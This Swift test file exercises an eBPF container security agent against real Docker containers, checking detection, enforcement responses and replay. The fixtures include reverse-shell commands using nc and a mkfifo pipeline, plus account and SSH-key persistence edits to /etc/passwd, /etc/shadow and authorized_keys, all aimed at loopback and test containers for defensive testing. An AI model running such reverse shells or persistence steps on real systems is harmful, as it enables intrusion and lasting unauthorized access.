import Detection
import Foundation
import Model
import Parsing
import Sensor
import Synchronization
import TestKit
import Testing

@testable import Agent

/// The whole way with a real engine: container made, program seen, finding with name and image. Skipped, with the reason,
/// where there is no engine or no eBPF.
@Suite(
  .serialized,
  .enabled(if: RealEngine.isPossible && (try? KernelSensor()) != nil, "needs root, dockerd and eBPF"))
struct WatchServiceTests {
  /// A judge that keeps what it is shown.
  final class Notes: Sendable {
    let events = Mutex<[ActivityEvent]>([])
    func first(_ condition: (ActivityEvent) -> Bool) -> ActivityEvent? {
      events.withLock { $0.first(where: condition) }
    }
    func wait(seconds: Double = 20, _ condition: (ActivityEvent) -> Bool) -> ActivityEvent? {
      let end = Date().addingTimeInterval(seconds)
      while Date() < end {
        if let hit = first(condition) { return hit }
        usleep(10_000)
      }
      return nil
    }
  }
  struct Witness: ActivityJudge {
    let notes: Notes
    func take(_ event: ActivityEvent) -> [Finding] {
      notes.events.withLock { $0.append(event) }
      return []
    }
  }

  /// A watch in the background with everything that it saw.
  final class Running {
    let service: WatchService
    let notes: Notes
    let findings = Mutex<[Finding]>([])
    private let summary = Mutex<WatchSummary?>(nil)
    private let done = DispatchSemaphore(value: 0)

    init(_ engine: RealEngine, recording: String? = nil) throws {
      let notes = Notes()
      self.notes = notes
      var options = WatchService.Options()
      options.engineSockets = [engine.socket]
      options.recording = recording
      options.judges = { [DetectionEngine(epoch: $0), Witness(notes: notes)] }
      service = try WatchService(options)
      let started = DispatchSemaphore(value: 0)
      nonisolated(unsafe) let me = self
      Thread.detachNewThread {
        let summary = try? me.service.run(onStart: { started.signal() }) { finding in
          me.findings.withLock { $0.append(finding) }
        }
        me.summary.withLock { $0 = summary }
        me.done.signal()
      }
      #expect(started.wait(timeout: .now() + 20) == .success)
    }

    func stop() -> WatchSummary? {
      service.stop()
      #expect(done.wait(timeout: .now() + 20) == .success)
      return summary.withLock { $0 }
    }
  }

  static func engine() throws -> RealEngine {
    let engine = try RealEngine()
    let root = try TemporaryDirectory()
    try FileManager.default.createDirectory(atPath: root.path + "/bin", withIntermediateDirectories: true)
    try Tool.run("cp", [Tool.find("busybox") ?? "/bin/busybox", root.path + "/bin/busybox"])
    for name in ["sh", "true", "sleep", "echo", "cat", "nc", "cp", "mv", "sed", "id"] {
      try FileManager.default.createSymbolicLink(atPath: root.path + "/bin/" + name, withDestinationPath: "busybox")
    }
    try root.write("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n")
    try root.write("etc/shadow", "root:*:19000:0:99999:7:::\n")
    try FileManager.default.createDirectory(atPath: root.path + "/root", withIntermediateDirectories: true)
    _ = try engine.image("watched:1", layers: [root.path])
    return engine
  }

  @Test func containersAreNamedFromTheirFirstProgramAndReplayAgrees() throws {
    let engine = try Self.engine()
    let folder = try TemporaryDirectory()
    let running = try Running(engine, recording: folder.path + "/r")
    // Short-lived ones: gone before anybody could look.
    for number in 0..<5 {
      try engine.docker([
        "run", "--rm", "--cidfile", "\(folder.path)/\(number)", "--network", "none", "--name", "short\(number)",
        "watched:1", "true",
      ])
    }
    try engine.docker(
      [
        "run", "-d", "--network", "none", "--name", "long", "-l", "io.kubernetes.pod.name=pod-7", "watched:1", "sleep",
        "99",
      ])
    try engine.docker(["exec", "-u", "65534", "long", "sh", "-c", "echo marker; exec id"])
    let login = running.notes.wait {
      if case .login = $0.action { $0.process.container?.name == "long" } else { false }
    }
    let summary = try #require(running.stop())
    try engine.docker(["rm", "-f", "long"])

    for number in 0..<5 {
      let first = running.notes.first { $0.process.container?.name == "short\(number)" }
      #expect(first?.process.container?.image == "watched:1", "short\(number)")
      #expect(first?.process.container?.digest.hasPrefix("sha256:") == true)
    }
    // Engines of other tests may run beside this one: only this one's containers count.
    let own = Set(try (0..<5).map { try String(contentsOfFile: "\(folder.path)/\($0)", encoding: .utf8) })
    let unnamed = running.notes.events.withLock { events in
      events.filter { event in
        guard case .exec = event.action, let container = event.process.container else { return false }
        return container.name.isEmpty && own.contains(container.id)
      }
    }
    #expect(unnamed.isEmpty)
    guard case .login(let found)? = login?.action else {
      Issue.record("the login was not seen")
      return
    }
    #expect(found.user == "65534")
    #expect(found.arguments == ["sh", "-c", "echo marker; exec id"])
    #expect(login?.process.container?.pod == "pod-7")
    #expect(summary.sensor.submitted == summary.sensor.received)
    #expect(summary.lost == 0)
    #expect(summary.undecoded == 0)

    var again: [Finding] = []
    let replayed = try WatchReplay.run(
      try WatchReplay.load(folder.path + "/r"), judges: { [DetectionEngine(epoch: $0)] }, sink: { again.append($0) })
    #expect(replayed.recordingFailure == nil)
    #expect(again == running.findings.withLock { $0 })
  }

  @Test func aNewAccountIsComparedAndNamed() throws {
    let engine = try Self.engine()
    let running = try Running(engine)
    try engine.docker(["run", "-d", "--network", "none", "--name", "shop", "watched:1", "sleep", "99"])
    try engine.docker([
      "exec", "shop", "sh", "-c",
      "cd /etc; echo 'eve:x:0:0::/:/bin/sh' >> passwd; sed -i 's/root:[*]/root:$1$a$b/' /etc/shadow; mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys",
    ])
    func changed(_ path: String) -> ActivityEvent? {
      running.notes.wait { if case .fileChanged(let change) = $0.action { change.path == path } else { false } }
    }
    let events = ["/etc/passwd", "/etc/shadow", "/root/.ssh/authorized_keys"].map { ($0, changed($0)) }
    _ = running.stop()
    try engine.docker(["rm", "-f", "shop"])
    for (path, event) in events {
      guard let event, case .fileChanged(let change) = event.action else {
        Issue.record("the change of \(path) was not seen")
        continue
      }
      #expect(event.process.container?.name == "shop", "\(path)")
      #expect(event.process.key.pid > 0, "\(path)")
      switch path {
      case "/etc/passwd": #expect(change.added == ["eve:x:0:0::/:/bin/sh"])
      case "/etc/shadow": #expect(change.added == ["root:{md5}:19000:0:99999:7:::"])
      default: #expect(change.kind == .created)
      }
    }
  }

  @Test func responsesDoWhatTheySay() throws {
    let engine = try Self.engine()
    let running = try Running(engine)
    let id = try engine.docker(["run", "-d", "--network", "host", "--name", "shop", "watched:1", "sleep", "99"])
      .trimmingCharacters(in: .whitespacesAndNewlines)
    #expect(running.notes.wait { if case .exec = $0.action { $0.process.container?.id == id } else { false } } != nil)
    let response = running.service.enforcement

    // A program that the image did not contain: a thousand attempts, none runs.
    let attempts = """
      cp /bin/busybox /root/busybox; i=0; ran=0; while [ $i -lt 1000 ]; do /root/busybox true 2>/dev/null && ran=$((ran+1)); i=$((i+1)); done; echo ran $ran
      """
    try response.denyDroppedPrograms(in: id)
    #expect(try engine.docker(["exec", "shop", "sh", "-c", attempts]) == "ran 0\n")
    #expect(try engine.docker(["exec", "shop", "/bin/busybox", "echo", "fine"]) == "fine\n")
    let denied = running.notes.wait {
      if case .enforced(let what) = $0.action {
        what.kind == .deniedProgram && what.target == "/root/busybox"
      } else {
        false
      }
    }
    #expect(denied?.process.container?.name == "shop")
    try response.denyDroppedPrograms(in: id, isOn: false)
    #expect(try engine.docker(["exec", "shop", "sh", "-c", "/root/busybox true && echo ran"]) == "ran\n")

    try response.killAtExec(.droppedFiles, in: id)
    #expect(
      try engine.docker(["exec", "shop", "sh", "-c", "/root/busybox touch /made; test -e /made || echo none"])
        == "none\n")
    try response.killAtExec(nil, in: id)

    try response.deny(KernelSensor.NetworkDenial(everything: true), in: id)
    #expect(throws: (any Error).self) { try engine.docker(["exec", "shop", "nc", "-w", "1", "127.0.0.1", "1"]) }
    #expect(
      running.notes.wait { if case .enforced(let what) = $0.action { what.kind == .deniedConnection } else { false } }
        != nil)
    try response.deny(nil, in: id)

    try response.denyProgram(path: "/bin/busybox", in: id)
    #expect(throws: (any Error).self) { try engine.docker(["exec", "shop", "/bin/busybox", "true"]) }
    try response.denyProgram(path: "/bin/busybox", in: id, isOn: false)
    #expect(try engine.docker(["exec", "shop", "/bin/busybox", "echo", "again"]) == "again\n")

    try response.pause(id)
    #expect(try engine.docker(["inspect", "-f", "{{.State.Paused}}", "shop"]) == "true\n")
    try response.resume(id)
    let beginning = try #require(running.notes.first { $0.process.container?.id == id }).process.key
    #expect(throws: EnforcementError.self) { try response.kill(ProcessKey(pid: beginning.pid, start: 1)) }
    try response.kill(beginning)
    #expect(running.notes.wait { if case .exit = $0.action { $0.process.key == beginning } else { false } } != nil)
    #expect(throws: EnforcementError.self) { try response.deny(nil, in: id) }
    _ = running.stop()
    try engine.docker(["rm", "-f", "shop"])
  }

  @Test func theDoctorNamesEveryHook() throws {
    let lines = Doctor.examine(engineSockets: ["/nonexistent.sock"])
    for hook in ["tp_btf/sched_process_exec", "tp_btf/io_uring_submit_req", "cgroup/connect4", "self-test"] {
      #expect(lines.contains { $0.what == hook && $0.works }, "\(hook)")
    }
    let engine = try #require(lines.last)
    #expect(!engine.works && engine.reason.contains("/nonexistent.sock"))
  }

  /// One shell on the socket itself, one behind a pipeline: both are found by what their descriptors lead to.
  @Test(arguments: [
    (["nc", "127.0.0.1", "PORT", "-e", "/bin/sh"], "reverse-shell.stdio"),
    (
      ["sh", "-c", "busybox mkfifo /f; sh -i </f 2>&1 | nc 127.0.0.1 PORT >/f"], "reverse-shell.pipeline"
    ),
  ])
  func aReverseShellThatRanBeforeIsFoundAtTheStart(_ command: [String], _ rule: String) throws {
    let engine = try Self.engine()
    // Loopback only: the container shares the host's network, the listener is this process.
    let listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    defer { close(listener) }
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
    var size = socklen_t(MemoryLayout<sockaddr_in>.size)
    withUnsafeMutablePointer(to: &address) { pointer in
      pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        _ = bind(listener, $0, size)
        _ = getsockname(listener, $0, &size)
      }
    }
    listen(listener, 1)
    let port = UInt16(bigEndian: address.sin_port)
    try engine.docker(
      ["run", "-d", "--network", "host", "--name", "taken", "watched:1"]
        + command.map { $0.replacingOccurrences(of: "PORT", with: String(port)) })
    let connection = accept(listener, nil, nil)
    defer { close(connection) }
    // The shell answers: from now on it runs.
    write(connection, "echo ready\n", 11)
    var answer = [UInt8](repeating: 0, count: 16)
    #expect(read(connection, &answer, 16) > 0)
    let running = try Running(engine)
    _ = running.stop()
    try engine.docker(["rm", "-f", "taken"])
    let found = running.findings.withLock {
      $0.first { $0.rule == rule && $0.subject.name == "taken" }
    }
    #expect(found.map { $0.severity >= .high } == true)
  }
}
